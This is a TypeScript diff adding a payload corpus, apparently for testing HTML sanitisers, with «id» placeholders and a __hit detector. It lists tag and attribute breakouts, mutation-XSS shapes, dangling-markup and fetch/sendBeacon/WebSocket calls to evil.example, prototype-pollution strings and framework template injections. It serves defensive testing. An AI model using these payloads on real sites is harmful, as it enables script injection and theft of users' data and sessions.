@@ -1,7 +1,5 @@
-import { FOREIGN_ADDRESSES, RUNNING_ADDRESSES } from './addresses.ts';
-import { combine } from './combine.ts';
-import type { Payload } from './payload.ts';
-import { SCRIPTS } from './scripts.ts';
+import { FOREIGN_ADDRESSES, RUNNING_ADDRESSES } from './text.ts';
+import { combine, type Payload } from './payload.ts';
 
 /** Elements and handlers that run what they are given. */
 const RUNNERS: readonly string[] = [
@@ -103,6 +101,175 @@ const LEADERS: readonly string[] = [
   '<blockquote cite="«url»"><q cite="«url»">x</q></blockquote>',
   '<html manifest="«url»">',
   '<portal src="«url»"></portal><fencedframe src="«url»"></fencedframe>',
+];
+
+/** Ends of what a text may have been written into. */
+const ENDS: readonly string[] = [
+  '"></a>«core»',
+  "'></a>«core»",
+  '` >«core»',
+  '" «attribute» x="',
+  "' «attribute» x='",
+  '</title>«core»',
+  '</textarea>«core»',
+  '</style>«core»',
+  '</script>«core»<script>',
+  '</ScRiPt\n>«core»',
+  '</noscript>«core»',
+  '</xmp></listing>«core»',
+  '</template>«core»',
+  '</select></option>«core»',
+  '</svg></math>«core»',
+  '</code></pre>«core»<pre><code>',
+  '</p></li></ol></dialog></ibid-ask>«core»',
+  '-->«core»<!--',
+  '--!>«core»',
+  '<!-->«core»',
+  '<![CDATA[x]]>«core»',
+  ']]>«core»<![CDATA[',
+  '?>«core»<?php',
+  '*/</style>«core»/*',
+  '\u0000«core»',
+  '&lt;/p&gt;«core»',
+  '%3C%2Fp%3E«core»',
+  '\r\n\r\n«core»',
+  '\n\ndata: «core»\n\nevent: run-end\n\n',
+  '"}]}«core»{"a":["',
+];
+
+const CORES: readonly string[] = [
+  '<img src=x onerror=__hit(«id»)>',
+  '<svg onload=__hit(«id»)>',
+  '<script>__hit(«id»)</script>',
+  '<img src=//evil.example/«id»>',
+  '<a href="javascript:__hit(«id»)">x</a>',
+  '<iframe srcdoc="<script>top.__hit(«id»)</script>"></iframe>',
+];
+
+/** Markup that is another one once it was written out and read again. */
+const MUTATIONS: readonly string[] = [
+  '<table><a>«core»<tr></a></table>',
+  '<table><caption><select><option>«core»</table>',
+  '<svg></p><style><a id="</style>«core»">',
+  '<math><mtext><table><mglyph><style><!--</style>«core»-->',
+  '<form><math><mtext></form><form><mglyph><style></math>«core»',
+  '<noscript><style></noscript>«core»</style>',
+  '<svg><style>&lt;/style&gt;«core»</style></svg>',
+  '<svg><title><style><img title="</style>«core»"></title></svg>',
+  '<pre>\n\n<code>«core»</code></pre>',
+  '<listing>&lt;img&gt;«core»</listing>',
+  '<xmp><p title="</xmp>«core»">',
+  '<select><template>«core»</template></select>',
+  '<p><plaintext></p>«core»',
+  '<b><i><u></b>«core»</i></u>',
+  '<a><svg><desc><a>«core»</desc></svg></a>',
+  '<div id="&quot;>«core»">x</div>',
+  '<!-- a --!>«core»<!-- -->',
+  '<p title="`«core»`">x</p>',
+  '<annotation-xml encoding="text/html">«core»</annotation-xml>',
+  '<frameset>«core»</frameset>',
+];
+
+/** Markup without an end, which swallows what follows and sends it along. */
+const DANGLING: readonly Payload[] = [
+  "<img src='//evil.example/«id»?",
+  '<img src="//evil.example/«id»?',
+  '<a href="//evil.example/«id»" target="',
+  "<base target='//evil.example/«id»",
+  '<textarea name=q form=x>//evil.example/«id»',
+  '<form action=//evil.example/«id»><button>x</button><textarea name=q>',
+  '<button form=f formaction=//evil.example/«id»><select name=q><option>',
+  '<style>@import//evil.example/«id»?',
+  "<meta http-equiv=refresh content='0;url=//evil.example/«id»?",
+  "<link rel=stylesheet href='//evil.example/«id»?",
+  "<table background='//evil.example/«id»?",
+  '<script>x=`//evil.example/«id»',
+].map((template) => ({ name: 'dangling', template }));
+
+export const BREAKOUTS: readonly Payload[] = [
+  ...ENDS.flatMap((end) =>
+    end.includes('«attribute»')
+      ? ['onfocus=__hit(«id») autofocus', 'onerror=__hit(«id») src=x', 'style=background:url(//evil.example/«id»)'].map(
+          (attribute) => ({ name: 'breakout/attribute', template: end.replace('«attribute»', attribute) }),
+        )
+      : combine({ kind: 'breakout', carriers: [end], slot: '«core»', fillings: CORES, each: 6 }),
+  ),
+  ...MUTATIONS.flatMap((shape) =>
+    combine({ kind: 'mutation', carriers: [shape], slot: '«core»', fillings: CORES, each: 6 }),
+  ),
+  ...DANGLING,
+];
+
+/** Names that mean something to objects, templates of frameworks, and what looks like an element of React. */
+const TEXTS: readonly string[] = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'constructor.prototype.__hit',
+  '__proto__[src]=//evil.example/«id»',
+  'toString',
+  'hasOwnProperty',
+  'then',
+  'dangerouslySetInnerHTML',
+  '{"__proto__":{"src":"//evil.example/«id»"}}',
+  '{"constructor":{"prototype":{"onerror":"__hit(«id»)"}}}',
+  '{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"//evil.example/«id»"}}',
+  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=__hit(«id»)>"}}',
+  '{{constructor.constructor("__hit(«id»)")()}}',
+  '${__hit(«id»)}',
+  '#{__hit(«id»)}',
+  '<%= __hit(«id») %>',
+  '{% raw %}{{__hit(«id»)}}{% endraw %}',
+  '[[${__hit(«id»)}]]',
+  '*{__hit(«id»)}',
+  "{{$on.constructor('__hit(«id»)')()}}",
+  '<div ng-app ng-csp><p ng-click=$event.view.__hit(«id»)>x</p></div>',
+  '<p v-html="\'<img src=x onerror=__hit(«id»)>\'">x</p>',
+  '<p x-data x-init="__hit(«id»)">x</p>',
+  '<p hx-get=//evil.example/«id» hx-trigger=load>x</p>',
+  '<a data-ibid-open="//evil.example/«id»" data-ibid-ask>x</a>',
+  '<ibid-ask data-api=//evil.example/«id»></ibid-ask>',
+  '<a id=config href="javascript:__hit(«id»)"><a id=config name=api href=//evil.example/«id»>',
+  '<form id=document><input name=cookie value=«id»><img name=body src=//evil.example/«id»></form>',
+  '<img name=currentScript src=//evil.example/«id»>',
+  '{message}{title}{place}{count} //evil.example/«id»',
+  'event: run-end\ndata: {"message":"<img src=x onerror=__hit(«id»)>"}\n\n',
+  'retry: 1\nid: «id»\n: //evil.example/«id»',
+  'on',
+  '',
+].filter((text) => text !== '');
+
+export const OBJECTS: readonly Payload[] = TEXTS.map((text) => ({
+  name: 'object',
+  template: text.includes('«id»') ? text : `${text} «id»`,
+}));
+
+/** Ways of running and of reaching out, once a script may run. None holds a space, `"` or `>`, so that they fit into any attribute. */
+const SCRIPTS: readonly string[] = [
+  '__hit(«id»)',
+  'top.__hit(«id»)',
+  "window['__'+'hit'](«id»)",
+  'self[/__hit/.source](«id»)',
+  '[«id»].map(__hit)',
+  '__hit`«id»`',
+  "(0,eval)('__hit(«id»)')",
+  "Function('__hit(«id»)')()",
+  "setTimeout('__hit(«id»)')",
+  String.raw`\u005f\u005fhit(«id»)`,
+  '&#95;&#x5f;hit&lpar;«id»&rpar;',
+  "fetch('//evil.example/«id»')",
+  "navigator.sendBeacon('//evil.example/«id»')",
+  "(new(Image)).src='//evil.example/«id»'",
+  'alert(«id»)',
+  'confirm(«id»)',
+  "open('//evil.example/«id»')",
+  "location='//evil.example/«id»'",
+  "import('//evil.example/«id»')",
+  "new(WebSocket)('wss://evil.example/«id»')",
+  "new(EventSource)('//evil.example/«id»')",
+  "history.pushState(0,0,'/«id»-evil.example')",
+  "document.cookie='evil=«id»'",
+  "postMessage('evil.example/«id»','*'),__hit(«id»)",
 ];
 
 export const MARKUP: readonly Payload[] = [
